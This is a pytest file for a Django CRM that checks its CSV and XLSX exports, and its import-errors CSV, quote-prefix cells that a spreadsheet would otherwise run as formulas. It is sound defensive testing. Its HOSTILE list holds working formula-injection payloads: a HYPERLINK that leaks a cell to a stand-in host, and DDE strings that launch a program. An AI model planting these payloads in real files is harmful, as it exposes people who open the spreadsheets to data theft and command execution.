"""Formula injection: no cell of a CSV or XLSX the app writes can act as a formula in a spreadsheet
program (OWASP "CSV injection"), while phone numbers and amounts stay as they are."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from crm.spreadsheets import cell_safe, csv_text, xlsx_bytes
from tests.factories import ClientFactory, TagFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Zhang Wei", "张伟", "+8613800138000", "-12.50", "+1", "a=b", "", 42, Decimal("-3.5"), None]


@pytest.mark.parametrize("value", HOSTILE)
def test_it_quotes_a_value_a_spreadsheet_would_run_as_a_formula(value):
    assert cell_safe(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_it_leaves_text_and_numbers_alone(value):
    assert cell_safe(value) == value


def test_the_csv_quotes_every_hostile_cell_headers_included():
    text = csv_text(["=Header", "Phone"], [[value, "+8613800138000"] for value in HOSTILE])

    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[0] == ["'=Header", "Phone"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"+8613800138000"}


def test_the_xlsx_holds_hostile_values_as_text_never_as_formulas():
    content = xlsx_bytes(["Name", "Phone", "AUM"], [[value, "+8613800138000", Decimal("12.5")] for value in HOSTILE])

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row, value in zip(sheet.iter_rows(min_row=2), HOSTILE):
        name, phone, aum = row
        # Text, kept as it was (XML reads a carriage return back as a line feed).
        assert name.data_type == "s" and name.value == value.replace("\r", "\n")
        assert name.quotePrefix  # and Excel keeps it text when someone edits the cell
        assert phone.data_type == "s" and phone.value == "+8613800138000"
        assert not phone.quotePrefix
        assert aum.data_type == "n" and aum.value == 12.5


@pytest.fixture
def hostile_clients(owner):
    ClientFactory(legal_name=HOSTILE[0], preferred_name=HOSTILE[1], phone="+8613800138000", manager=owner)
    ClientFactory(legal_name=HOSTILE[3], preferred_name=HOSTILE[4], manager=owner)
    client = ClientFactory(legal_name="Li Lei", preferred_name=HOSTILE[5], manager=owner)
    client.tags.add(TagFactory(name="@SUM(1)"))


def test_the_client_csv_export_quotes_hostile_names_and_keeps_the_phone(client, owner, hostile_clients):
    client.force_login(owner)

    response = client.get(reverse("crm:client-export"), {"format": "csv"})

    assert response.status_code == 200
    rows = {row["Legal name"]: row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert set(rows) == {"'" + HOSTILE[0], "'" + HOSTILE[3], "Li Lei"}
    first = rows["'" + HOSTILE[0]]
    assert first["Preferred name"] == "'" + HOSTILE[1]
    assert first["Phone"] == "+8613800138000"
    assert rows["'" + HOSTILE[3]]["Preferred name"] == "'" + HOSTILE[4]
    assert rows["Li Lei"]["Preferred name"] == "'" + HOSTILE[5]
    assert rows["Li Lei"]["Tags"] == "'@SUM(1)"


def test_the_client_xlsx_export_has_no_formula_and_the_phone_as_text(client, owner, hostile_clients):
    client.force_login(owner)

    response = client.get(reverse("crm:client-export"), {"format": "xlsx"})

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for row in cells for cell in row.values())
    by_name = {row["Legal name"].value: row for row in cells}
    assert set(by_name) == {HOSTILE[0], HOSTILE[3], "Li Lei"}
    assert by_name[HOSTILE[0]]["Legal name"].quotePrefix
    assert by_name[HOSTILE[0]]["Phone"].data_type == "s"
    assert by_name[HOSTILE[0]]["Phone"].value == "+8613800138000"
    assert by_name["Li Lei"]["Tags"].value == "@SUM(1)" and by_name["Li Lei"]["Tags"].quotePrefix


def test_the_import_errors_csv_quotes_the_hostile_cells_it_echoes(client, owner):
    from crm import imports
    from tests.factories import csv_bytes

    client_import = imports.client_import_upload(user=owner, file_name="clients.csv", data=csv_bytes([
        ["Name", "Phone", "E-mail"],
        [HOSTILE[0], "1", "=cmd|' /C calc'!A0"],  # a bad phone, so the row comes back
    ]))
    client.force_login(owner)

    response = client.get(reverse("crm:import-errors", kwargs={"pk": client_import.pk}))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Name", "Phone", "E-mail", "Errors"]
    name, phone, email, errors = rows[1]
    assert name == "'" + HOSTILE[0]
    assert phone == "1"
    assert email == "'=cmd|' /C calc'!A0"
    assert "phone" in errors.lower()
